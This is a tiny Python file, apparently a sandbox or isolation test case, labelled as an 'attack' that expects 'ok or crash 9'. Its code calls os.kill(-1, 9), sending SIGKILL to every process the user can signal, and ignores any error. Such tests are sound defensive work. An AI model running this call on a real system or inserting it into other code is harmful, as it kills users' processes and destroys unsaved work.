# attack: end all that can be ended
# want: ok or crash 9
# why: that it ends itself with them is its own affair

import os
try:
    os.kill(-1, 9)
except OSError:
    pass
